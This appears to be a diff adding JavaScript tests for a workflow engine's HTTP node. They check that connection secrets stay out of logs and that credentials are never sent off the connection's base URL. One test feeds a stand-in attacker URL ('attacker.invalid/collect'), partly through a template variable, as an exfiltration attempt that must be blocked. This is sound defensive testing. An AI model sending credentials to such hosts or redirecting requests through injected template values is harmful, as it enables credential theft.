@@ -0,0 +1,76 @@
+import { test, beforeEach, afterEach } from "node:test";
+import assert from "node:assert/strict";
+import http from "node:http";
+import { fakeDb } from "../support/fakeDb.js";
+import { runFlow } from "../support/flows.js";
+import { encryptJSON } from "../../src/utils/crypto.js";
+
+let server;
+let received;
+
+beforeEach(async () => {
+  fakeDb.reset();
+  received = [];
+  server = http.createServer((req, res) => {
+    received.push(req.headers);
+    res.setHeader("Content-Type", "application/json");
+    res.end(JSON.stringify({ ok: true }));
+  });
+  await new Promise(resolve => server.listen(0, "127.0.0.1", resolve));
+  fakeDb.on(/FROM connections/, () => ({
+    rows: [{
+      provider: "http",
+      config_enc: encryptJSON({
+        baseUrl: `http://127.0.0.1:${server.address().port}`,
+        headers: { "X-Tenant-Secret": "s3cr3t-header" },
+        auth: { type: "bearer", token: "s3cr3t-token" },
+      }),
+    }],
+  }));
+});
+
+afterEach(() => server.close());
+
+test("connection headers and auth are sent but never logged", async () => {
+  const result = await runFlow({
+    nodes: [
+      { id: "start", type: "trigger" },
+      {
+        id: "call",
+        type: "action",
+        kind: "http",
+        config: { connectionId: "conn-1", url: "/orders", headers: { "X-Request-Source": "flow" } },
+      },
+    ],
+    edges: [{ from: "start", to: "call" }],
+  });
+
+  assert.equal(result.status, "completed");
+  assert.equal(received[0]["x-tenant-secret"], "s3cr3t-header");
+  assert.equal(received[0].authorization, "Bearer s3cr3t-token");
+
+  const logs = fakeDb.statements(/INSERT INTO execution_logs/).map(c => c.params.join(" "));
+  assert.ok(logs.some(line => line.includes("X-Request-Source")), "node headers are logged");
+  assert.ok(!logs.some(line => line.includes("s3cr3t")), "no secret reaches the log");
+});
+
+test("a connection's credentials are never sent off its base URL", async () => {
+  const call = (url) => runFlow({
+    nodes: [
+      { id: "start", type: "trigger" },
+      { id: "call", type: "action", kind: "http", config: { connectionId: "conn-1", url } },
+    ],
+    edges: [{ from: "start", to: "call" }],
+  }, { triggerData: { target: "http://attacker.invalid/collect" } });
+
+  for (const url of ["http://attacker.invalid/collect", "{{ trigger.target }}", "https://127.0.0.1/orders"]) {
+    const result = await call(url);
+    assert.equal(result.success, false, url);
+    assert.match(result.error, /is not on the connection's base URL \(http:\/\/127\.0\.0\.1:\d+\)/);
+  }
+  assert.equal(received.length, 0, "no request went out");
+
+  const sameOrigin = await call(`http://127.0.0.1:${server.address().port}/orders`);
+  assert.equal(sameOrigin.status, "completed");
+  assert.equal(received[0].authorization, "Bearer s3cr3t-token");
+});